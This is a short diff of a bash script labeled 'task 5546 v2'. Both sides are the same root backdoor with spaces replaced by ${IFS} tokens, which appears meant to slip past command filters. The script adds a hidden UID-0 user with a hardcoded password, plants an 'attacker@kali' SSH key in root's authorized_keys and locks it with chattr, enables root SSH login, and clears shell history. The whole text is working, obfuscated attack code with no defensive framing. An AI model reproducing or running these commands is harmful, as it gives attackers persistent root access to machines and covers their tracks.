@@ -1,9 +1,9 @@
-#$IFS$9task${IFS}5546${IFS}v2
+#${IFS}task$IFS$95546$IFS$9v2
 #!/bin/bash
-useradd${IFS}-o${IFS}-u$IFS$90${IFS}-g$IFS$90${IFS}-M${IFS}-d${IFS}/root$IFS$9-s${IFS}/bin/bash${IFS}defaultuser2
-echo$IFS$9"defaultuser2:Adm1n!strat0r"${IFS}|$IFS$9chpasswd
-mkdir${IFS}-p${IFS}/root/.ssh
-echo$IFS$9"ssh-rsa${IFS}AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x$IFS$9attacker@kali"${IFS}>>${IFS}/root/.ssh/authorized_keys
-chattr${IFS}+i${IFS}/root/.ssh/authorized_keys
-sed${IFS}-i$IFS$9's/^#\?PermitRootLogin.*/PermitRootLogin${IFS}yes/'$IFS$9/etc/ssh/sshd_config$IFS$9&&$IFS$9systemctl${IFS}restart$IFS$9sshd
+useradd${IFS}-o$IFS$9-u${IFS}0${IFS}-g${IFS}0$IFS$9-M${IFS}-d${IFS}/root${IFS}-s$IFS$9/bin/bash${IFS}defaultuser2
+echo${IFS}"defaultuser2:Adm1n!strat0r"${IFS}|${IFS}chpasswd
+mkdir$IFS$9-p${IFS}/root/.ssh
+echo${IFS}"ssh-rsa${IFS}AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x${IFS}attacker@kali"${IFS}>>$IFS$9/root/.ssh/authorized_keys
+chattr${IFS}+i$IFS$9/root/.ssh/authorized_keys
+sed${IFS}-i${IFS}'s/^#\?PermitRootLogin.*/PermitRootLogin${IFS}yes/'$IFS$9/etc/ssh/sshd_config${IFS}&&$IFS$9systemctl${IFS}restart${IFS}sshd
 unset$IFS$9HISTFILE;${IFS}history${IFS}-c
